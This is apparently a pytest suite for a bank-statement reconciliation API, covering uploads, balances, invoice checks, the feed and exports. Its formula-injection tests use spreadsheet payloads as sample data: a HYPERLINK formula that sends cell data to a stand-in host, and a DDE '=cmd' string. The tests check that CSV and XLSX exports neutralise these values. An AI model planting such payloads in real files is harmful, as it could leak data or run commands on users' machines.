"""Master data, uploads, balances, invoice checks, the feed and exports."""

import csv
import io
import time
from datetime import date
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session, select

from models.db import session_scope
from models.tables import BankAccount, ReviewTask, StatementLine
from service.app import create_app
from service.auth import create_api_key
from service.settings import Settings

CSV_HEADER = (
    "line_ref,booking_date,amount,currency,counterparty_name,"
    "counterparty_account,memo,bank_reference\n"
)
FORMULA_MEMOS = [
    '=HYPERLINK("http://x.invalid/?"&C2,"open")',
    "@SUM(1+1)",
    "+1-1 SO-9701",
    "\t=1+2",
]


@pytest.fixture
def client(database_url, engine, tmp_path, cold_start_dir):
    settings = Settings(
        database_url=database_url,
        data_dir=tmp_path,
        cold_start_dir=cold_start_dir,
        max_upload_bytes=2048,
    )
    app = create_app(settings, engine=engine, review_page=False)
    with TestClient(app) as client:
        yield client


@pytest.fixture
def erp(engine) -> dict[str, str]:
    with session_scope(engine) as session:
        return {"X-API-Key": create_api_key(session, "erp", role="erp", actor="test")}


def _seed(client, headers, *orders):
    customers = [
        {"customer_id": "C1", "name": "恒达机械有限公司", "bank_accounts": ["6222001"]},
        {"customer_id": "C7", "name": "Kestrel Tools"},
    ]
    assert (
        client.put(
            "/v1/customers", headers=headers, json={"customers": customers}
        ).status_code
        == 200
    )
    rows = [
        {
            "order_id": order_id,
            "customer_id": customer_id,
            "order_date": "2025-06-01",
            "amount": amount,
            "open_amount": amount,
        }
        for order_id, customer_id, amount in orders
    ]
    if rows:
        assert (
            client.put("/v1/orders", headers=headers, json={"orders": rows}).status_code
            == 200
        )


def _upload(client, headers, text, **data):
    files = {"file": ("statement.csv", text.encode("utf-8"), "text/csv")}
    return client.post("/v1/statements", headers=headers, files=files, data=data)


def _confirm(client, headers, line_ref, order_id, amount):
    line = client.get(
        "/v1/lines", headers=headers, params={"line_ref": line_ref}
    ).json()[0]
    body = {
        "version": line["version"],
        "allocations": [
            {
                "target": "order",
                "amount": amount,
                "customer_id": "C1",
                "order_id": order_id,
            }
        ],
    }
    response = client.post(
        f"/v1/lines/{line['id']}/confirm", headers=headers, json=body
    )
    assert response.status_code == 200, response.text
    return response.json()


def test_customer_upsert_then_update(client, erp):
    body = {"customers": [{"customer_id": "C1", "name": "恒达", "aliases": ["HENGDA"]}]}
    first = client.put("/v1/customers", headers=erp, json=body).json()

    body["customers"][0]["name"] = "恒达机械有限公司"
    second = client.put("/v1/customers", headers=erp, json=body).json()

    assert (first["created"], second["updated"]) == (1, 1)
    customer = client.get("/v1/customers/C1", headers=erp).json()
    assert customer["name"] == "恒达机械有限公司"
    assert customer["aliases"] == ["HENGDA"]
    assert customer["balance"] == "0.00"


def test_order_of_unknown_customer_is_422(client, erp):
    order = {
        "order_id": "SO-1",
        "customer_id": "NOPE",
        "order_date": "2025-06-01",
        "amount": "1.00",
        "open_amount": "1.00",
    }

    response = client.put("/v1/orders", headers=erp, json={"orders": [order]})

    assert response.status_code == 422
    assert response.json()["code"] == "unknown_customer"


def test_cancelled_order_releases_to_balance(client, erp):
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    _confirm(client, erp, "L1", "SO-1", "300.00")
    cancelled = {
        "order_id": "SO-1",
        "customer_id": "C1",
        "order_date": "2025-06-01",
        "amount": "300.00",
        "open_amount": "300.00",
        "status": "cancelled",
    }

    report = client.put("/v1/orders", headers=erp, json={"orders": [cancelled]}).json()

    assert [(r["target"], r["amount"]) for r in report["released"]] == [
        ("balance", "300.00")
    ]
    ledger = client.get("/v1/customers/C1/ledger", headers=erp).json()
    assert ledger["balance"] == "300.00"
    assert [(e["kind"], e["amount"], e["order_id"]) for e in ledger["entries"]] == [
        ("receipt", "300.00", "SO-1")
    ]
    line = client.get("/v1/lines", headers=erp, params={"line_ref": "L1"}).json()[0]
    rows = client.get(f"/v1/lines/{line['id']}", headers=erp).json()["allocations"]
    assert [(r["target"], r["amount"]) for r in rows] == [("balance", "300.00")]


def test_cancelling_twice_releases_once(client, erp):
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    _confirm(client, erp, "L1", "SO-1", "300.00")
    cancelled = {
        "order_id": "SO-1",
        "customer_id": "C1",
        "order_date": "2025-06-01",
        "amount": "300.00",
        "open_amount": "300.00",
        "status": "cancelled",
    }

    client.put("/v1/orders", headers=erp, json={"orders": [cancelled]})
    again = client.put("/v1/orders", headers=erp, json={"orders": [cancelled]}).json()

    assert again["released"] == []
    assert client.get("/v1/customers/C1", headers=erp).json()["balance"] == "300.00"


@pytest.mark.parametrize(
    ("amount", "covered", "shortfall"),
    [
        pytest.param("400.00", True, "0.00", id="paid"),
        pytest.param("1000.00", False, "600.00", id="beyond-paid"),
    ],
)
def test_invoice_check_against_paid(client, erp, amount, covered, shortfall):
    _seed(client, erp, ("SO-1", "C1", "1000.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,400.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    _confirm(client, erp, "L1", "SO-1", "400.00")
    invoice = {"invoice_id": "INV-1", "order_ids": ["SO-1"], "amount": amount}

    report = client.put(
        "/v1/invoices", headers=erp, json={"invoices": [invoice]}
    ).json()
    check = client.get("/v1/invoices/INV-1/check", headers=erp).json()

    assert report["invoice_checks"] == [check]
    assert check["paid_to_orders"] == "400.00"
    assert check["covered"] is covered
    assert check["shortfall"] == shortfall


def test_upload_matches_and_reimport_adds_nothing(client, erp):
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    text = CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达机械有限公司,6222001,SO-1,\n"

    first = _upload(client, erp, text).json()
    second = _upload(client, erp, text).json()

    assert first["lines_new"] == 1
    assert sum(first["decisions"].values()) == 1
    assert second["lines_new"] == 0
    assert second["lines_already_imported"] == 1
    assert second["decisions"] == {}


@pytest.mark.parametrize(
    ("content", "status", "code"),
    [
        pytest.param(
            CSV_HEADER + "L1,2025-06-10,1.00,CNY,a,b," + "x" * 3000 + ",\n",
            413,
            "payload_too_large",
            id="too-large",
        ),
        pytest.param("", 422, "invalid_file", id="empty"),
        pytest.param(
            "line_ref,booking_date,amount\nL1,not-a-date,1.00\n",
            422,
            "invalid_file",
            id="bad-date",
        ),
    ],
)
def test_upload_bad_file(client, erp, content, status, code):
    response = _upload(client, erp, content)

    assert response.status_code == status
    assert response.json()["code"] == code


def test_upload_currency_and_zone_set_new_account(client, erp, engine):
    text = "line_ref,booking_date,amount\nL1,2025-06-10,18.00\n"

    response = _upload(
        client,
        erp,
        text,
        account="ACC-DE",
        currency="EUR",
        time_zone="Europe/Berlin",
        match="false",
    )

    assert response.status_code == 201, response.text
    with Session(engine) as session:
        account = session.get(BankAccount, "ACC-DE")
        line = session.exec(select(StatementLine)).one()
    assert (account.currency, account.time_zone) == ("EUR", "Europe/Berlin")
    assert line.currency == "EUR"
    assert line.anomaly_reasons is None


@pytest.mark.parametrize(
    ("data", "status", "code", "detail"),
    [
        pytest.param(
            {"currency": "USD"},
            409,
            "account_setup_conflict",
            "account ACC-DE is stored with currency EUR, but the import gives USD; "
            "import without a currency, or into another account; nothing was "
            "imported",
            id="other-currency",
        ),
        pytest.param(
            {"time_zone": "Asia/Tokyo"},
            409,
            "account_setup_conflict",
            "account ACC-DE is stored with time zone Europe/Berlin, but the import "
            "gives Asia/Tokyo; import without a time zone, or into another "
            "account; nothing was imported",
            id="other-zone",
        ),
        pytest.param(
            {"time_zone": "Europe/Berln"},
            422,
            "invalid_account_setup",
            "time zone 'Europe/Berln' is not found; give an IANA name such as "
            "Europe/Berlin or Asia/Shanghai",
            id="unknown-zone",
        ),
    ],
)
def test_upload_setup_of_stored_account_checked(
    client, erp, engine, data, status, code, detail
):
    with session_scope(engine) as session:
        session.add(
            BankAccount(account="ACC-DE", currency="EUR", time_zone="Europe/Berlin")
        )
    text = "line_ref,booking_date,amount\nL1,2025-06-10,18.00\n"

    response = _upload(client, erp, text, account="ACC-DE", **data)

    assert response.status_code == status
    assert response.json() == {"detail": detail, "code": code}
    with Session(engine) as session:
        assert session.exec(select(StatementLine)).all() == []


def test_upload_lowercase_currency_is_422(client, erp):
    text = "line_ref,booking_date,amount\nL1,2025-06-10,18.00\n"

    response = _upload(client, erp, text, currency="eur")

    assert response.status_code == 422
    assert response.json()["code"] == "invalid_request"


def _add_line(session, ref: str, account: str, key: str) -> int:
    line = StatementLine(
        account=account,
        line_ref=ref,
        dedupe_key=key,
        booking_date=date(2025, 3, 1),
        amount=Decimal("18.00"),
    )
    session.add(line)
    session.flush()
    return line.id


def test_find_lines_duplicate_ref_lists_ids(client, erp, engine):
    with session_scope(engine) as session:
        first = _add_line(session, "export.csv:1", "ACC-UP", "k1")
        second = _add_line(session, "export.csv:1", "ACC-UP", "k2")

    response = client.get(
        "/v1/lines",
        headers=erp,
        params={"line_ref": "export.csv:1", "account": "ACC-UP"},
    )

    assert response.status_code == 409
    assert response.json() == {
        "code": "ambiguous_line_ref",
        "detail": f"2 lines have line_ref 'export.csv:1' (line ids {first}, "
        f"{second}; accounts ACC-UP); get one by its id with GET "
        f"/v1/lines/{{line_id}}, such as GET /v1/lines/{first}",
    }
    for line_id in (first, second):
        found = client.get(f"/v1/lines/{line_id}", headers=erp)
        assert found.status_code == 200
        assert found.json()["line"]["line_ref"] == "export.csv:1"


def test_find_lines_duplicate_ref_names_accounts(client, erp, engine):
    with session_scope(engine) as session:
        first = _add_line(session, "export.csv:1", "ACC-C10", "k1")
        second = _add_line(session, "export.csv:1", "ACC-UP", "k2")

    both = client.get("/v1/lines", headers=erp, params={"line_ref": "export.csv:1"})
    narrowed = client.get(
        "/v1/lines",
        headers=erp,
        params={"line_ref": "export.csv:1", "account": "ACC-UP"},
    )

    assert both.status_code == 409
    assert both.json()["detail"].endswith(
        f"such as GET /v1/lines/{first}, or add account=ACC-C10 to the query"
    )
    assert "--" not in both.json()["detail"]
    assert narrowed.status_code == 200
    assert [line["id"] for line in narrowed.json()] == [second]


def test_find_lines_unknown_ref_is_404(client, erp):
    response = client.get(
        "/v1/lines", headers=erp, params={"line_ref": "nope", "account": "ACC-UP"}
    )

    assert response.status_code == 404
    assert response.json() == {
        "code": "line_not_found",
        "detail": "no stored line has line_ref 'nope' in account ACC-UP",
    }


@pytest.mark.parametrize(
    ("statuses", "expected"),
    [
        pytest.param([], None, id="no-task"),
        pytest.param(["decided", "open", "decided"], 1, id="open-task"),
        pytest.param(["decided", "closed"], 1, id="latest-task"),
    ],
)
def test_get_line_returns_task_id(client, erp, engine, statuses, expected):
    with session_scope(engine) as session:
        line_id = _add_line(session, "L1", "ACC-UP", "k1")
        tasks = [ReviewTask(line_id=line_id, status=status) for status in statuses]
        session.add_all(tasks)
        session.flush()
        task_ids = [task.id for task in tasks]

    response = client.get(f"/v1/lines/{line_id}", headers=erp)

    assert response.status_code == 200
    expected_id = None if expected is None else task_ids[expected]
    assert response.json()["task_id"] == expected_id


def test_feed_lists_booked_then_reversed(client, erp):
    client.app.state.feed_settle_seconds = 0
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    confirmed = _confirm(client, erp, "L1", "SO-1", "300.00")
    line_id = confirmed["line"]["id"]
    client.post(
        f"/v1/lines/{line_id}/reverse",
        headers=erp,
        json={"version": confirmed["line"]["version"], "reason": "wrong payer"},
    )

    page = client.get("/v1/feed", headers=erp).json()
    later = client.get(
        "/v1/feed", headers=erp, params={"cursor": page["next_cursor"]}
    ).json()

    assert [(e["event"], e["order_id"], e["amount"]) for e in page["events"]] == [
        ("booked", "SO-1", "300.00"),
        ("reversed", "SO-1", "300.00"),
    ]
    assert page["events"][0]["line_ref"] == "L1"
    assert later["events"] == []
    assert later["next_cursor"] == page["next_cursor"]


def test_feed_holds_back_young_events(client, erp):
    client.app.state.feed_settle_seconds = 3600
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    _confirm(client, erp, "L1", "SO-1", "300.00")

    page = client.get("/v1/feed", headers=erp).json()

    assert page == {"events": [], "next_cursor": 0}


def test_feed_shows_settled_events(client, erp):
    client.app.state.feed_settle_seconds = 1
    _seed(client, erp, ("SO-1", "C1", "300.00"))
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,300.00,CNY,恒达,6222001,SO-1,\n",
        match="false",
    )
    _confirm(client, erp, "L1", "SO-1", "300.00")
    time.sleep(1.5)

    page = client.get("/v1/feed", headers=erp).json()

    assert [event["event"] for event in page["events"]] == ["booked"]


def _formula_lines(client, erp):
    _seed(client, erp, ("SO-9701", "C7", "64.00"))
    rows = [
        {
            "line_ref": f"F{number}",
            "booking_date": "2025-06-10",
            "amount": amount,
            "memo": memo,
            "counterparty_name": "=cmd|' /C calc'!A0",
        }
        for number, (memo, amount) in enumerate(
            zip(FORMULA_MEMOS, ["11.00", "12.00", "64.00", "13.00"]), start=1
        )
    ]
    response = client.post("/v1/match", headers=erp, json={"lines": rows})
    assert response.status_code == 200
    return response.json()


def test_formula_memo_keeps_reference(client, erp):
    body = _formula_lines(client, erp)

    third = body["lines"][2]
    assert third["allocations"][0]["order_id"] == "SO-9701"


def test_formula_memo_raw_in_json(client, erp):
    _formula_lines(client, erp)

    tasks = client.get("/v1/review-tasks", headers=erp).json()["items"]

    memos = {task["line"]["memo"] for task in tasks}
    assert {FORMULA_MEMOS[0], FORMULA_MEMOS[1], FORMULA_MEMOS[3]} <= memos


def test_formula_memo_neutralised_in_csv(client, erp):
    _formula_lines(client, erp)

    response = client.get("/v1/exports/review-tasks.csv", headers=erp)

    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows
    for row in rows:
        assert row["memo"].startswith("'")
        assert row["counterparty_name"].startswith("'")
        assert Decimal(row["amount"]) > 0


def test_formula_memo_is_text_in_xlsx(client, erp):
    _formula_lines(client, erp)

    response = client.get("/v1/exports/review-tasks.xlsx", headers=erp)

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    memo_column = header.index("memo")
    amount_column = header.index("amount")
    for row in sheet.iter_rows(min_row=2):
        assert row[memo_column].data_type == "s"
        assert row[memo_column].value in FORMULA_MEMOS
        assert row[amount_column].data_type == "n"


def test_allocations_export_has_every_line(client, erp):
    body = _formula_lines(client, erp)

    response = client.get("/v1/exports/allocations.csv", headers=erp)

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {row["line_ref"] for row in rows} == {
        line["line_ref"] for line in body["lines"]
    }
    assert list(rows[0]) == [
        "line_ref",
        "customer_id",
        "order_id",
        "target",
        "amount",
        "confidence",
        "decision",
        "anomaly_score",
        "anomaly_reasons",
        "allocation_status",
        "account",
    ]


def test_ledger_export_lists_receipts(client, erp):
    _seed(client, erp)
    _upload(
        client,
        erp,
        CSV_HEADER + "L1,2025-06-10,90.00,CNY,恒达,6222001,预付款,\n",
        match="false",
    )
    line = client.get("/v1/lines", headers=erp, params={"line_ref": "L1"}).json()[0]
    body = {
        "version": line["version"],
        "allocations": [{"target": "balance", "amount": "90.00", "customer_id": "C1"}],
    }
    client.post(f"/v1/lines/{line['id']}/confirm", headers=erp, json=body)

    response = client.get(
        "/v1/exports/ledger.csv", headers=erp, params={"customer_id": "C1"}
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(row["kind"], row["amount"]) for row in rows] == [("receipt", "90.00")]
